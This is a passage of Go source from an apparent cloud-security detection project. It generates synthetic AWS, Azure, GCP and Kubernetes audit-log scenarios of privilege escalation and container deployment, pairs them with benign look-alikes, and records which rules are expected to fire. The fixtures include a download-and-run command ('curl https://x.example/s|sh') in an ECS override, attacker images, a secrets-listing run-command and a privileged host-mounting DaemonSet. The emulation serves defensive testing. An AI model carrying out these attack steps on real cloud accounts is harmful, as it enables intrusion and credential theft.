package emulate

import (
	"fmt"
	"time"

	"permgraph/detect/rules"
)

// Node ids of sample principals used in rule configs.
const (
	deployRoleID = "aws:arn:aws:iam::111122223333:role/DeployRole"
	auditRoleID  = "aws:arn:aws:iam::111122223333:role/AuditRole"
)

const (
	uaCLI       = "aws-cli/2.15.0 Python/3.11.6 Linux/6.1 exe/x86_64"
	uaRequests  = "python-requests/2.31.0"
	uaKubectl   = "kubectl/v1.30.2 (linux/amd64) kubernetes/3a8b9c1"
	uaTerraform = "Terraform/1.9.5 (+https://www.terraform.io) terraform-provider-aws/5.70.0 (+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.30.4"
	attackerIP  = "203.0.113.50"
)

const dsDETECTIONS = "DETECTIONS.md §5"

func scenarioList() []Scenario {
	return []Scenario{
		{Name: "E1", Title: "AWS: stolen IAM user key, group recon, self-add to the deployer group, ECS deploy", Source: dsDETECTIONS,
			Clouds: []string{"aws"}, Attack: []string{"T1069.003", "T1098.003", "T1610"},
			Description: "gina's access key (she may add members to Deployers) enumerates groups from python-requests, adds herself to Deployers and runs a task. Benign: an identity-governance role adds dave to Developers; dave deploys the next day.",
			build:       buildE1},
		{Name: "E2", Title: "AWS: compromised EC2 workload, discovery, latent role chain, RunTask with a task-role override and exec", Source: dsDETECTIONS,
			Clouds: []string{"aws"}, Attack: []string{"T1069.003", "T1087.004", "T1550.001", "T1610", "T1609"},
			Description: "An instance session of JumpRole runs the Stratus EC2 enumeration (with GetAccountAuthorizationDetails), assumes DeployRole and runs a task overriding the task role with AuditRole (which DeployRole may not pass), then execs into it. Benign: Jenkins sessions of JumpRole assume DeployRole and run the app task unchanged; the nightly Prowler scan through AuditRole (allowlisted with its user agent).",
			build:       buildE2},
		{Name: "E3", Title: "AWS to EKS: access-entry backdoor, SelfSubjectRulesReview, privileged DaemonSet in kube-system", Source: dsDETECTIONS,
			Clouds: []string{"aws", "k8s"}, Attack: []string{"T1098.006", "T1613", "T1610", "T1611"},
			Description: "frank creates an EKS access entry for JumpRole with the cluster-admin access policy; a JumpRole session probes its rights and creates a privileged, hostPID, hostPath=/ DaemonSet. Benign: the platform deployer (DeployRole, listed as platform) ships its node agent DaemonSet with a hostPath mount.",
			build:       buildE3},
		{Name: "E4", Title: "Entra to Azure: Graph recon, self-add to an owned group, ACI deploy", Source: dsDETECTIONS,
			Clouds: []string{"azure"}, Attack: []string{"T1069.003", "T1087.004", "T1098.003", "T1610"},
			Description: "kim (owner of aci-operators) enumerates groups and members through Graph, calls estimateAccess, adds herself to aci-operators and creates a container group in prod-sub. Benign: alice browses the groups blade (two reads).",
			build:       buildE4},
		{Name: "E5", Title: "Azure AKS: admin-credential laundering, SelfSubjectRulesReview, ephemeral container, run-command", Source: dsDETECTIONS,
			Clouds: []string{"azure", "k8s"}, Attack: []string{"T1078.004", "T1613", "T1609", "T1610"},
			Description: "bob lists the cluster admin credential; masterclient probes its rules and adds an ephemeral debug container to a payments pod; bob runs a command through the AKS run-command API. Benign: alice reads pod logs in staging with her Entra identity.",
			build:       buildE5},
		{Name: "E6", Title: "GCP: leaked SA key, permission probing, SA impersonation, Cloud Run as another SA", Source: dsDETECTIONS,
			Clouds: []string{"gcp"}, Attack: []string{"T1069.003", "T1087.004", "T1550.001", "T1610"},
			Description: "A leaked key of ci-read@ml-prod tests its permissions, searches IAM policies, mints a token for deployer@ml-prod (denied on three others) and deploys a Cloud Run service as runtime@ml-prod, then opens it to allUsers. Benign: Terraform through workload identity federation impersonates deployer and deploys as usual.",
			build:       buildE6},
		{Name: "E7", Title: "Workspace to GKE: a person adds herself to a deployer group, the grant arrives hours after the deploy", Source: dsDETECTIONS,
			Clouds: []string{"google-workspace", "gcp", "k8s"}, Attack: []string{"T1098.003", "T1610"},
			Description: "alice (who can reach deploy only by acting as deployer@) adds herself to ml-leads and creates a GKE deployment; the Workspace admin event is delivered 3 hours late, after the deploy. Benign: the SCIM provisioner adds jane to ml-leads; jane deploys more than a day later.",
			build:       buildE7},
		{Name: "E8", Title: "Kubernetes: stolen pod SA token, RBAC recon, privileged hostPath pod (fully authorized)", Source: dsDETECTIONS,
			Clouds: []string{"k8s"}, Attack: []string{"T1528", "T1613", "T1069.003", "T1610", "T1611"},
			Description: "The ci-runner service account token is used from outside the cluster: SelfSubjectRulesReview, RBAC listings (mostly forbidden), then a privileged pod mounting / in build. Benign: DaemonSet-controller pods mounting /proc (owner references) and the platform deployer's node agent.",
			build:       buildE8},
		{Name: "E9", Title: "Kubernetes: impersonation of system:masters to deploy", Source: dsDETECTIONS,
			Clouds: []string{"k8s"}, Attack: []string{"T1134", "T1078.004", "T1610"},
			Description: "dev@corp.example impersonates system:admin in system:masters and creates a deployment in prod. Benign: dev lists deployments without impersonation.",
			build:       buildE9},
		{Name: "X1-ephemeral", Title: "AWS: ephemeral container, run and stopped within three minutes by a principal with no path", Source: "own",
			Clouds: []string{"aws"}, Attack: []string{"T1610", "T1078.004", "T1070"},
			Description: "erin's key (read-only auditor) runs a one-off Fargate task with a command override, stops it 3 minutes later and deregisters the task definition: the deletion must not hide the deploy. Benign: alice's daily run-and-stop of the app task (noise).",
			build:       buildX1},
		{Name: "X2-terraform", Title: "AWS: Terraform-style deploy by an unexpected principal", Source: "own",
			Clouds: []string{"aws"}, Attack: []string{"T1078.004", "T1610"},
			Description: "carol's key (in Deployers but denied ECS run/create) drives a Terraform apply: caller identity, describes, RegisterTaskDefinition, CreateService, with Terraform's user agent. Benign: the pipeline's DeployRole session runs the same apply.",
			build:       buildX2},
		{Name: "X3-gained", Title: "Azure and GKE: deploys right after a membership change that happened between snapshots", Source: "own",
			Clouds: []string{"azure", "gcp", "k8s"}, Attack: []string{"T1098.003", "T1610"},
			Description: "The day-2 snapshot shows contractors nested into aci-operators and leo added to ml-leads, with no grant event in the stream; ivan creates a container group and leo a GKE deployment three hours after the snapshot. Benign: alice, who could deploy on both days, does the same.",
			build:       buildX3},
		{Name: "X4-first-seen", Title: "AWS: after 15 quiet days, first-time discovery, a trust-policy backdoor and role juggling to deploy", Source: "own",
			Clouds: []string{"aws"}, Attack: []string{"T1069.003", "T1087.004", "T1098.003", "T1550.001", "T1610"}, Days: 16, thin: true,
			Description: "16 days of (thin) background give the first-seen baseline its 14 days. On day 15 frank's key (he may edit DeployRole's trust policy) quietly reads roles and policies (five calls in 15 minutes, below R01's burst), adds himself and DeployRole to DeployRole's trust, assumes DeployRole and deploys; then the DeployRole session assumes DeployRole (role juggling, to outlive frank's key) and deploys again. Benign: gina reviews the deployer groups every day; Jenkins (JumpRole) assumes DeployRole and runs the app task every day.",
			build:       buildX4},
		{Name: "X5-deploy-spike", Title: "AWS: a CI key's routine deploys, then a burst of short-lived tasks from the same key", Source: "own",
			Clouds: []string{"aws"}, Attack: []string{"T1610", "T1496"}, Days: 16, thin: true,
			Description: "16 days of (thin) background and ci-bot's routine: one to three function updates an hour on weekdays, and a release of about 30 every Tuesday at 14:00 UTC. On day 10 (a Thursday, 11:00) ci-bot's stolen key registers a task definition and runs 40 short-lived tasks in 20 minutes, each stopped 3 minutes later (R11). Benign: the Tuesday releases, the third of which has two weeks of history for its weekday-hour slot, and a Saturday-night runtime upgrade of 40 functions inside a configured change window.",
			build:       buildX5},
	}
}

func (b *builder) ct(step string, t time.Time, who awsIdentity, src, name string, params, resp map[string]any, errc, ua, ip string) {
	b.add("cloudtrail", step, t, cloudTrail(ctCall{t: t, who: who, source: src, name: name, params: params, resp: resp, errorCode: errc, ua: ua, ip: ip, id: b.uuid()}))
}

func buildE1(b *builder) {
	t0 := b.attack
	gina := iamUser(prodAcct, "ops/", "gina", "AKIAGINA0STOLEN")
	b.step("whoami", "gina", "GetCallerIdentity with the stolen key")
	b.ct("whoami", t0, gina, "sts", "GetCallerIdentity", nil, nil, "", uaRequests, attackerIP)
	recon := b.step("recon", "gina", "30 group and group-policy reads over 12 groups in 3 minutes")
	groups := []string{"Deployers", "Developers", "Auditors", "Admins", "Billing", "Data", "Support", "Security", "Network", "Finance", "QA", "Ops"}
	calls := []string{"ListGroups", "ListGroupsForUser"}
	for _, g := range groups {
		calls = append(calls, "GetGroup:"+g)
	}
	for i := 0; i < 4; i++ {
		calls = append(calls, "ListAttachedGroupPolicies:"+groups[i], "ListGroupPolicies:"+groups[i])
	}
	for len(calls) < 30 {
		calls = append(calls, "GetGroupPolicy:Deployers")
	}
	for i, c := range calls {
		name, g := c, ""
		if j := indexByte(c, ':'); j >= 0 {
			name, g = c[:j], c[j+1:]
		}
		p := map[string]any{}
		if g != "" {
			p["groupName"] = g
		}
		if name == "GetGroupPolicy" {
			p["policyName"] = "DeployersInline"
		}
		b.ct(recon, t0.Add(20*time.Second+time.Duration(i)*6*time.Second), gina, "iam", name, p, nil, "", uaRequests, attackerIP)
	}
	grant := b.step("grant", "gina", "AddUserToGroup: gina adds herself to Deployers")
	b.ct(grant, t0.Add(5*time.Minute), gina, "iam", "AddUserToGroup", map[string]any{"groupName": "Deployers", "userName": "gina"}, nil, "", uaRequests, attackerIP)
	deploy := b.step("deploy", "gina", "RegisterTaskDefinition (attacker image) and RunTask on prod")
	b.ct(deploy, t0.Add(7*time.Minute), gina, "ecs", "RegisterTaskDefinition", map[string]any{"family": "tool",
		"containerDefinitions": []any{map[string]any{"name": "tool", "image": "docker.io/attacker/tool:latest"}},
		"executionRoleArn":     "arn:aws:iam::" + prodAcct + ":role/app/AppTaskRole"}, nil, "", uaRequests, attackerIP)
	b.ct(deploy, t0.Add(8*time.Minute), gina, "ecs", "RunTask", map[string]any{"cluster": "prod", "taskDefinition": "tool:1", "launchType": "FARGATE"}, nil, "", uaRequests, attackerIP)

	b.want("R01", "gina", true, "30 group reads, 6 distinct actions in 3 minutes", recon)
	b.want("R10", "gina", true, "discovery, then a grant and a deploy by the same key within 2 h", grant, deploy)
	b.want("R05", "gina", true, "the deploy follows gina's own AddUserToGroup in the stream (R04 defers to it)", deploy)

	// B1: an identity-governance role adds dave to Developers; dave's own
	// deploy (MFA-conditional path) comes 30 h later.
	iga := roleSession(prodAcct, "", "iga-provisioner", "scim-sync", "ASIAIGA000001")
	dave := iamUser(prodAcct, "eng/", "dave", "AKIADAVE")
	onb := b.benign("b1-onboarding", "iga-provisioner, dave", "IGA adds dave to Developers; dave creates a Lambda function 30 h later",
		"onboarding: the granter does no discovery and the grantee deploys outside the 24 h window, with a path in the snapshot")
	tb := t0.Add(-40 * time.Hour)
	b.ct(onb, tb, iga, "iam", "AddUserToGroup", map[string]any{"groupName": "Developers", "userName": "dave"}, nil, "", "aws-sdk-java/2.25.0", "192.0.2.80")
	b.ct(onb, tb.Add(30*time.Hour), dave, "lambda", "CreateFunction20150331", map[string]any{"functionName": "app-report",
		"role": "arn:aws:iam::" + prodAcct + ":role/app/LambdaExecRole", "packageType": "Zip"}, nil, "", uaCLI, "198.51.100.12")
}

func indexByte(s string, c byte) int {
	for i := 0; i < len(s); i++ {
		if s[i] == c {
			return i
		}
	}
	return -1
}

func buildE2(b *builder) {
	t0 := b.attack
	web := roleSession(prodAcct, "", "JumpRole", "i-0abc1234def567890", "ASIAJUMPINSTANCE1")
	recon := b.step("recon", "JumpRole", "Stratus ec2-enumerate-from-instance: 9 discovery calls from the instance session")
	for i, c := range [][2]string{{"sts", "GetCallerIdentity"}, {"s3", "ListBuckets"}, {"iam", "GetAccountSummary"}, {"iam", "ListRoles"},
		{"iam", "ListUsers"}, {"iam", "GetAccountAuthorizationDetails"}, {"ec2", "DescribeSnapshots"}, {"cloudtrail", "DescribeTrails"}, {"guardduty", "ListDetectors"}} {
		b.ct(recon, t0.Add(time.Duration(i)*4*time.Second), web, c[0], c[1], nil, nil, "", "aws-cli/2.15.0 md/stratus-red-team", "10.0.3.17")
	}
	assume := b.step("assume", "JumpRole", "AssumeRole DeployRole (a chain the snapshot allows but that was never used)")
	b.ct(assume, t0.Add(3*time.Minute), web, "sts", "AssumeRole", map[string]any{"roleArn": "arn:aws:iam::" + prodAcct + ":role/DeployRole", "roleSessionName": "x"},
		map[string]any{"credentials": map[string]any{"accessKeyId": "ASIADEPLOYCHAIN2", "expiration": "Nov 4, 2026, 11:03:00 AM"},
			"assumedRoleUser": map[string]any{"arn": "arn:aws:sts::" + prodAcct + ":assumed-role/DeployRole/x", "assumedRoleId": "AROADEPLOY:x"}}, "", uaCLI, "10.0.3.17")
	dep := roleSession(prodAcct, "", "DeployRole", "x", "ASIADEPLOYCHAIN2")
	deploy := b.step("deploy", "DeployRole", "RunTask overriding the task role with AuditRole and the command with a download-and-run")
	b.ct(deploy, t0.Add(4*time.Minute), dep, "ecs", "RunTask", map[string]any{"cluster": "prod", "taskDefinition": "app:7", "launchType": "FARGATE",
		"overrides": map[string]any{"taskRoleArn": "arn:aws:iam::" + prodAcct + ":role/AuditRole",
			"containerOverrides": []any{map[string]any{"name": "app", "command": []any{"sh", "-c", "curl https://x.example/s|sh"}}}}}, nil, "", uaCLI, "10.0.3.17")
	exec := b.step("exec", "DeployRole", "ECS ExecuteCommand into the running task")
	b.ct(exec, t0.Add(6*time.Minute), dep, "ecs", "ExecuteCommand", map[string]any{"cluster": "prod", "task": "arn:aws:ecs:us-east-1:" + prodAcct + ":task/prod/9f8e7d",
		"container": "app", "command": "/bin/sh", "interactive": true}, nil, "", uaCLI, "10.0.3.17")

	b.want("R01", "JumpRole", true, "GetAccountAuthorizationDetails is a bulk enumeration call", recon)
	b.want("R03", "JumpRole", true, "GetAccountAuthorizationDetails enumerates the caller's own permissions (self-probe)", recon)
	b.want("R07", "DeployRole", true, "DeployRole may pass only AppTaskRole; the override passes AuditRole (cannot-pass-per-snapshot)", deploy)
	b.want("R09", "DeployRole", true, "ExecuteCommand into a running task", exec)
	b.want("R06", "DeployRole", false, "not expected: the JumpRole -> DeployRole chain is in the snapshot, and first-seen-chain needs 14 days of baseline (the emulation covers 3)", deploy)
	b.want("R10", "JumpRole", false, "not built: R10 keys on the acting principal; the discovery is JumpRole's and the deploy DeployRole's (correlation through actor.origin is not built)", deploy)

	// B2: Jenkins sessions of JumpRole assume DeployRole and run the app
	// task unchanged, several times a day.
	jen := b.benign("b2-jenkins", "JumpRole (jenkins), DeployRole", "Jenkins assumes DeployRole and runs the app task without overrides",
		"the chain is in the snapshot, no override, no discovery")
	for k := 0; k < 6; k++ {
		t := b.from.Add(time.Duration(4+k*9)*time.Hour + b.jitter(time.Hour))
		key := fmt.Sprintf("ASIAJENKINSDEP%03d", k)
		j := roleSession(prodAcct, "", "JumpRole", fmt.Sprintf("jenkins-%d", k), fmt.Sprintf("ASIAJENKINSJMP%03d", k))
		b.ct(jen, t, j, "sts", "AssumeRole", map[string]any{"roleArn": "arn:aws:iam::" + prodAcct + ":role/DeployRole", "roleSessionName": "jenkins"},
			map[string]any{"credentials": map[string]any{"accessKeyId": key}, "assumedRoleUser": map[string]any{"arn": "arn:aws:sts::" + prodAcct + ":assumed-role/DeployRole/jenkins"}}, "", "aws-sdk-java/2.25.0", "10.0.1.40")
		b.ct(jen, t.Add(time.Minute), roleSession(prodAcct, "", "DeployRole", "jenkins", key), "ecs", "RunTask",
			map[string]any{"cluster": "prod", "taskDefinition": "app:7", "launchType": "FARGATE"}, nil, "", "aws-sdk-java/2.25.0", "10.0.1.40")
	}
	// B2: the nightly Prowler scan through AuditRole (allowlisted with its
	// user agent).
	scan := b.benign("b2-prowler", "AuditRole", "nightly Prowler scan: GetAccountAuthorizationDetails and policy reads",
		"allowlisted (AuditRole together with Prowler's user agent)")
	for d := 0; d < 3; d++ {
		t := b.from.Add(time.Duration(d)*24*time.Hour + 17*time.Hour)
		a := roleSession(prodAcct, "", "AuditRole", "prowler", fmt.Sprintf("ASIAPROWLER%04d", d))
		for i, n := range []string{"GetAccountAuthorizationDetails", "ListPolicies", "ListRoles", "ListUsers", "ListGroups", "GetAccountSummary"} {
			b.ct(scan, t.Add(time.Duration(i)*10*time.Second), a, "iam", n, nil, nil, "", "prowler/4.2.1 aws-sdk-python/boto3", "192.0.2.90")
		}
	}
	b.config.Allow = append(b.config.Allow, rules.AllowEntry{Principal: auditRoleID, UserAgent: "prowler/", Reason: "nightly CSPM scan"})
}

// eksUser is an EKS audit identity of an IAM role session.
func eksUser(role, session, key string) (string, map[string]any) {
	arn := "arn:aws:iam::" + prodAcct + ":role/" + role
	return arn, map[string]any{"arn": []any{"arn:aws:sts::" + prodAcct + ":assumed-role/" + role + "/" + session},
		"canonicalArn": []any{arn}, "sessionName": []any{session}, "accessKeyId": []any{key}, "principalId": []any{"AROA" + role}}
}

func (b *builder) k8s(step string, t time.Time, c k8sCall) {
	c.t, c.id = t, b.uuid()
	if c.code == 0 {
		c.code = 200
	}
	b.add("k8s-audit", step, t, k8sAudit(c))
}

func buildE3(b *builder) {
	t0 := b.attack
	frank := iamUser(prodAcct, "ops/", "frank", "AKIAFRANK")
	grant := b.step("grant", "frank", "CreateAccessEntry for JumpRole on cluster prod and AssociateAccessPolicy cluster-admin")
	b.ct(grant, t0, frank, "eks", "CreateAccessEntry", map[string]any{"clusterName": "prod", "principalArn": "arn:aws:iam::" + prodAcct + ":role/JumpRole", "type": "STANDARD"}, nil, "", uaCLI, attackerIP)
	b.ct(grant, t0.Add(30*time.Second), frank, "eks", "AssociateAccessPolicy", map[string]any{"clusterName": "prod", "principalArn": "arn:aws:iam::" + prodAcct + ":role/JumpRole",
		"policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy", "accessScope": map[string]any{"type": "cluster"}}, nil, "", uaCLI, attackerIP)
	user, extra := eksUser("JumpRole", "s1", "ASIAJUMPEKS00001")
	probe := b.step("probe", "JumpRole", "SelfSubjectRulesReview through the new access entry")
	b.k8s(probe, t0.Add(4*time.Minute), k8sCall{user: user, groups: []string{"system:authenticated"}, extra: extra, verb: "create", resource: "selfsubjectrulesreviews",
		apiGroup: "authorization.k8s.io", code: 201, ip: attackerIP, ua: uaKubectl})
	deploy := b.step("deploy", "JumpRole", "privileged hostPID DaemonSet mounting / in kube-system")
	ds := map[string]any{"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": map[string]any{"name": "kube-proxy-x7f2", "namespace": "kube-system"},
		"spec": map[string]any{"template": map[string]any{"spec": podSpec("busybox:latest", true, "/", true, "")}}}
	b.k8s(deploy, t0.Add(6*time.Minute), k8sCall{user: user, groups: []string{"system:authenticated"}, extra: extra, verb: "create", resource: "daemonsets",
		apiGroup: "apps", namespace: "kube-system", code: 201, ip: attackerIP, ua: uaKubectl, body: ds})

	b.want("R05", "JumpRole", true, "deploy by the principal an access entry was created for, minutes earlier", deploy)
	b.want("R08", "JumpRole", true, "privileged, hostPID, hostPath / by a non-platform principal", deploy)
	b.want("R03", "JumpRole", true, "SelfSubjectRulesReview", probe)
	b.want("R10", "JumpRole", true, "self-probe, then a deploy within 2 h", deploy)
	platformDaemonSet(b, "b3-platform", t0.Add(-20*time.Hour))
}

// platformDaemonSet adds the platform deployer's node agent DaemonSet
// (hostPath mount) as a benign step and lists DeployRole as platform.
func platformDaemonSet(b *builder, id string, t time.Time) {
	user, extra := eksUser("DeployRole", "argocd", "ASIADEPLOYARGO01")
	s := b.benign(id, "DeployRole", "the platform deployer (Argo CD through DeployRole) ships its node agent DaemonSet with hostPath /var/log",
		"DeployRole is listed as platform and has a direct deploy path")
	ds := map[string]any{"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": map[string]any{"name": "node-agent", "namespace": "monitoring"},
		"spec": map[string]any{"template": map[string]any{"spec": podSpec("corp.registry.example/node-agent@sha256:"+fmt.Sprintf("%064x", 42), true, "/var/log", false, "node-agent")}}}
	b.k8s(s, t, k8sCall{user: user, groups: []string{"system:authenticated"}, extra: extra, verb: "update", resource: "daemonsets",
		apiGroup: "apps", namespace: "monitoring", name: "node-agent", code: 200, ip: "10.0.1.50", ua: "argocd-application-controller/v2.12.3", body: ds})
	b.config.Platform = append(b.config.Platform, deployRoleID)
}

func (b *builder) graph(step string, t time.Time, user, method, uri string, status int, ua, ip, session string) {
	b.add("graph-activity", step, t, graphActivity(graphCall{t: t, userID: user, appID: "14d82eec-204b-4c2f-b7e8-296a70dab67e",
		method: method, uri: uri, status: status, ip: ip, ua: ua, session: session, id: b.uuid()}))
}

func buildE4(b *builder) {
	t0 := b.attack
	kim := entraID("kim")
	aci := entraID("aci-operators")
	ua := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) WindowsPowerShell/5.1.19041"
	ip := "198.51.100.7"
	sess := "5e550000-0000-4000-8000-00000000e4e4"
	recon := b.step("recon", "kim", "GraphRunner-style recon: /me, /groups pages, estimateAccess x4, members of 30 groups, authorization policy")
	t := t0
	next := func() time.Time { t = t.Add(7 * time.Second); return t }
	b.graph(recon, next(), kim, "GET", "/me", 200, ua, ip, sess)
	for i := 0; i < 6; i++ {
		b.graph(recon, next(), kim, "GET", fmt.Sprintf("/groups?$top=100&$skiptoken=page%d", i), 200, ua, ip, sess)
	}
	for i := 0; i < 4; i++ {
		b.graph(recon, next(), kim, "POST", "/roleManagement/directory/estimateAccess", 200, ua, ip, sess)
	}
	for i := 0; i < 30; i++ {
		g := fmt.Sprintf("9f%06d-c0c0-4000-8000-%012d", i, i)
		if i == 7 {
			g = aci
		}
		b.graph(recon, next(), kim, "GET", "/groups/"+g+"/members", 200, ua, ip, sess)
	}
	b.graph(recon, next(), kim, "GET", "/policies/authorizationPolicy", 200, ua, ip, sess)
	grant := b.step("grant", "kim", "kim adds herself to aci-operators (Graph POST members/$ref and the Entra audit record)")
	tg := t0.Add(50 * time.Minute)
	b.graph(grant, tg, kim, "POST", "/groups/"+aci+"/members/$ref", 204, ua, ip, sess)
	b.add("entra-audit", grant, tg.Add(2*time.Second), entraAudit(entraAuditCall{t: tg.Add(2 * time.Second), activity: "Add member to group",
		initiatorUPN: "kim@corp.example", initiatorID: kim, ip: ip, targetID: kim, targetUPN: "kim@corp.example", groupID: aci, groupName: "aci-operators", id: b.uuid()}))
	deploy := b.step("deploy", "kim", "container group create in prod-sub with an attacker image")
	td := t0.Add(70 * time.Minute)
	b.add("azure-activity", deploy, td, azureActivity(azCall{t: td, caller: "kim@corp.example", oid: kim, upn: "kim@corp.example",
		appid: "04b07795-8ddb-461a-bbee-02f9e1bf7b46", op: "Microsoft.ContainerInstance/containerGroups/write", status: "Succeeded", ip: ip, correlation: b.uuid(),
		resourceID: "/subscriptions/" + prodSub + "/resourceGroups/apps/providers/Microsoft.ContainerInstance/containerGroups/tool",
		body: map[string]any{"location": "westeurope", "properties": map[string]any{"containers": []any{map[string]any{"name": "tool",
			"properties": map[string]any{"image": "docker.io/attacker/tool:latest", "command": []any{"/bin/sh", "-c", "sleep 1d"}}}}, "osType": "Linux"}},
		evidence: map[string]any{"role": "Contributor", "principalId": entraID("aci-operators"), "principalType": "Group",
			"roleAssignmentScope": "/providers/Microsoft.Management/managementGroups/prod"}}))

	b.want("R01", "Kim Lee", true, "Graph group and member enumeration burst", recon)
	b.want("R03", "Kim Lee", true, "estimateAccess (what can I do)", recon)
	b.want("R05", "Kim Lee", true, "deploy after kim's own membership grant (in stream, or a late-grant upgrade of the R04)", deploy, grant)
	b.want("R10", "Kim Lee", true, "recon, then a grant and a deploy within 2 h", grant, deploy)
	b.want("R04", "Kim Lee", false, "fires when the Entra audit record is delivered after the deploy (kim's path is escalation only); R05 then supersedes it", deploy)

	blade := b.benign("b4-portal", "alice", "alice opens the groups blade in the portal: two reads",
		"fewer than 3 distinct discovery actions, no deploy")
	ta := t0.Add(-5 * time.Hour)
	b.graph(blade, ta, entraID("alice"), "GET", "/groups?$top=50", 200, "Mozilla/5.0 (Macintosh) Safari/17.0", "198.51.100.21", "5e550000-0000-4000-8000-0000000a11ce")
	b.graph(blade, ta.Add(20*time.Second), entraID("alice"), "GET", "/groups/"+aci, 200, "Mozilla/5.0 (Macintosh) Safari/17.0", "198.51.100.21", "5e550000-0000-4000-8000-0000000a11ce")
}

func buildE5(b *builder) {
	t0 := b.attack
	ip := "203.0.113.9"
	aks := "/subscriptions/" + prodSub + "/resourceGroups/apps/providers/Microsoft.ContainerService/managedClusters/prod-aks"
	creds := b.step("creds", "bob", "listClusterAdminCredential on prod-aks")
	b.add("azure-activity", creds, t0, azureActivity(azCall{t: t0, caller: "bob@corp.example", oid: entraID("bob"), upn: "bob@corp.example",
		op: "Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action", status: "Succeeded", ip: ip, correlation: b.uuid(), resourceID: aks}))
	mc := []string{"system:masters", "system:authenticated"}
	probe := b.step("probe", "masterclient", "SelfSubjectRulesReview with the local admin credential")
	tp := t0.Add(3 * time.Minute)
	b.add("aks-audit", probe, tp, aksWrap(k8sAudit(k8sCall{t: tp, user: "masterclient", groups: mc, verb: "create", resource: "selfsubjectrulesreviews",
		apiGroup: "authorization.k8s.io", code: 201, ip: ip, ua: uaKubectl, id: b.uuid()}), "prod-aks", tp))
	eph := b.step("ephemeral", "masterclient", "ephemeral netshoot container added to a payments pod")
	te := t0.Add(6 * time.Minute)
	b.add("aks-audit", eph, te, aksWrap(k8sAudit(k8sCall{t: te, user: "masterclient", groups: mc, verb: "patch", resource: "pods", sub: "ephemeralcontainers",
		namespace: "payments", name: "api-7d9c8", code: 200, ip: ip, ua: uaKubectl, id: b.uuid(),
		body: map[string]any{"spec": map[string]any{"ephemeralContainers": []any{map[string]any{"name": "debugger", "image": "nicolaka/netshoot", "targetContainerName": "api"}}}}}), "prod-aks", te))
	run := b.step("runcommand", "bob", "AKS run-command")
	tr := t0.Add(12 * time.Minute)
	b.add("azure-activity", run, tr, azureActivity(azCall{t: tr, caller: "bob@corp.example", oid: entraID("bob"), upn: "bob@corp.example",
		op: "Microsoft.ContainerService/managedClusters/runCommand/action", status: "Succeeded", ip: ip, correlation: b.uuid(), resourceID: aks,
		body: map[string]any{"command": "kubectl get secrets -A"}}))

	b.want("R03", "masterclient", true, "SelfSubjectRulesReview", probe)
	b.want("R09", "masterclient", true, "ephemeral container injected into a running pod (no deploy path: the local account is unknown to the graph)", eph)
	b.want("R09", "Bob Ortiz", true, "run-command into the cluster", run)

	logs := b.benign("b5-logs", "alice", "alice reads pod logs in staging with her Entra identity", "reads only")
	tl := t0.Add(-3 * time.Hour)
	b.add("aks-audit", logs, tl, aksWrap(k8sAudit(k8sCall{t: tl, user: entraID("alice"), groups: []string{"aks-sre", "system:authenticated"}, verb: "get", resource: "pods", sub: "log",
		namespace: "staging", name: "web-5c7d", code: 200, ip: "198.51.100.21", ua: uaKubectl, id: b.uuid()}), "prod-aks", tl))
}

func (b *builder) gcp(step string, t time.Time, c gcpCall) {
	c.t, c.id = t, b.uuid()
	b.add("gcp-audit", step, t, gcpAudit(c))
}

func buildE6(b *builder) {
	t0 := b.attack
	ci := "ci-read@ml-prod.iam.gserviceaccount.com"
	key := "//iam.googleapis.com/projects/ml-prod/serviceAccounts/ci-read@ml-prod.iam.gserviceaccount.com/keys/abc123"
	ip := "203.0.113.77"
	ua := "google-api-python-client/2.131.0 gl-python/3.11"
	probe := b.step("probe", ci, "testIamPermissions x5 in 100-permission chunks")
	for i := 0; i < 5; i++ {
		b.gcp(probe, t0.Add(time.Duration(i)*3*time.Second), gcpCall{email: ci, keyName: key, service: "cloudresourcemanager.googleapis.com",
			method: "TestIamPermissions", resource: "projects/ml-prod", project: mlProd, logType: "data_access", ip: ip, ua: ua})
	}
	recon := b.step("recon", ci, "ListServiceAccounts, GetIamPolicy, SearchAllIamPolicies")
	b.gcp(recon, t0.Add(30*time.Second), gcpCall{email: ci, keyName: key, service: "iam.googleapis.com", method: "google.iam.admin.v1.ListServiceAccounts",
		resource: "projects/ml-prod", project: mlProd, logType: "data_access", ip: ip, ua: ua, permission: "iam.serviceAccounts.list"})
	b.gcp(recon, t0.Add(40*time.Second), gcpCall{email: ci, keyName: key, service: "cloudresourcemanager.googleapis.com", method: "GetIamPolicy",
		resource: "projects/ml-prod", project: mlProd, logType: "data_access", ip: ip, ua: ua, permission: "resourcemanager.projects.getIamPolicy"})
	b.gcp(recon, t0.Add(50*time.Second), gcpCall{email: ci, keyName: key, service: "cloudasset.googleapis.com", method: "google.cloud.asset.v1.AssetService.SearchAllIamPolicies",
		resource: "organizations/222222222222", project: mlProd, logType: "data_access", ip: ip, ua: ua, permission: "cloudasset.assets.searchAllIamPolicies"})
	tokens := b.step("tokens", ci, "GenerateAccessToken: granted on deployer@, denied on three others")
	for i, sa := range []string{"runtime", "build", "admin", "deployer"} {
		code := 7
		if sa == "deployer" {
			code = 0
		}
		b.gcp(tokens, t0.Add(2*time.Minute+time.Duration(i)*5*time.Second), gcpCall{email: ci, keyName: key, service: "iamcredentials.googleapis.com",
			method: "GenerateAccessToken", resource: "projects/-/serviceAccounts/" + sa + "@ml-prod.iam.gserviceaccount.com", project: mlProd,
			logType: "data_access", code: code, ip: ip, ua: ua, permission: "iam.serviceAccounts.getAccessToken", resourceType: "service_account"})
	}
	dep := "deployer@ml-prod.iam.gserviceaccount.com"
	deploy := b.step("deploy", dep, "Cloud Run CreateService as runtime@ml-prod, through the minted token")
	b.gcp(deploy, t0.Add(4*time.Minute), gcpCall{email: dep, delegation: []string{ci}, service: "run.googleapis.com", method: "google.cloud.run.v2.Services.CreateService",
		resource: "projects/ml-prod/locations/europe-west1/services/x", project: mlProd, logType: "activity", ip: ip, ua: ua, permission: "run.services.create",
		resourceType: "cloud_run_revision", labels: map[string]any{"service_name": "x", "location": "europe-west1"},
		request: map[string]any{"@type": "type.googleapis.com/google.cloud.run.v2.CreateServiceRequest", "service": map[string]any{"template": map[string]any{
